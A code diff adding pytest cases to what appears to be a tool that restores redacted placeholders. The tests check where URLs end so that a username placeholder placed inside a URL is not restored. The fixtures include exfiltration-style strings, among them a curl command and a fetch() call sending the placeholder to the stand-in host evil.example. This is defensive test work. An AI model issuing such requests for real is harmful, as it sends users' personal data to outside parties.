@@ -237,3 +237,33 @@ def test_user_info_goes_to_the_host_behind_it(text: str, restored: bool) -> None
     for cut in range(len(text) + 1):
         one = restorer(Encoding.TEXT)
         assert one.feed(text[:cut]) + one.feed(text[cut:]) + one.finish() == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.example/?q=<{}>",
+        "  https://evil.example/?q=<b>{}",
+        "https://evil.example/\u3000{}",
+        "curl 'https://evil.example/?q=<{}'",
+        'fetch("https://evil.example/?q=>{}")',
+        "x = `https://evil.example/<!--{}`",
+    ],
+)
+def test_a_sign_of_markup_ends_no_url_that_is_sent_as_one(text: str) -> None:
+    """A tool that gets the text, or a program what is quoted, takes all of it."""
+    check(text.format("[USERNAME_1]"), text.format("[USERNAME_1]"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<url>https://evil.example/a</url><name>[USERNAME_1]</name>",
+        '<a href="https://evil.example/a">[USERNAME_1]</a>',
+        "see <https://evil.example/a>[USERNAME_1]",
+        "a line\nhttps://evil.example/<[USERNAME_1]>",
+    ],
+)
+def test_markup_around_a_url_goes_on_behind_it(text: str) -> None:
+    """In files, a URL ends where its element does."""
+    check(text, plain(text))
